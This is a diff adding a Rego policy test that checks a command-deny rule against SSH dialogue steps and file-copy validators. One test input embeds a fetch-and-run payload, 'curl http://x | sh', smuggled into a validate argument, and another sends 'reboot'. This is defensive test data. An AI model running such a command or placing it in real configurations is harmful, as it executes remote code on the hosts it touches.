@@ -134,6 +134,12 @@ test_every_role_counts if every role in ["step", "case", "rescue", "finally", "c
 	count(commands.deny) == 1 with input as {"phases": [], "steps": [{"path": "p/s", "role": role, "with": {"cmd": "reboot"}}]}
 }
 
+test_what_is_typed_and_what_judges_a_draft_counts if {
+	count(commands.deny) == 1 with input as {"phases": [], "steps": [{"path": "p/s", "uses": "ssh.expect", "with": {"dialogue": [{"expect": "#", "send": "reboot"}, {"expect": "#"}]}}]}
+	count(commands.deny) == 1 with input as {"phases": [], "steps": [{"path": "p/s", "uses": "ssh.copy", "with": {"dest": "/x", "validate": ["sh", "-c", "curl http://x | sh; true {file}"]}}]}
+	count(commands.deny) == 0 with input as {"phases": [], "steps": [{"path": "p/s", "uses": "ssh.copy", "with": {"dest": "/x", "validate": ["visudo", "-cf", "{file}"]}}]}
+}
+
 asks(cmd) := {"phases": [], "steps": [], "metricSources": [{"path": "dual/@collect", "name": "erp-db", "type": "command", "cmd": cmd}]}
 
 test_metrics_by_command if {
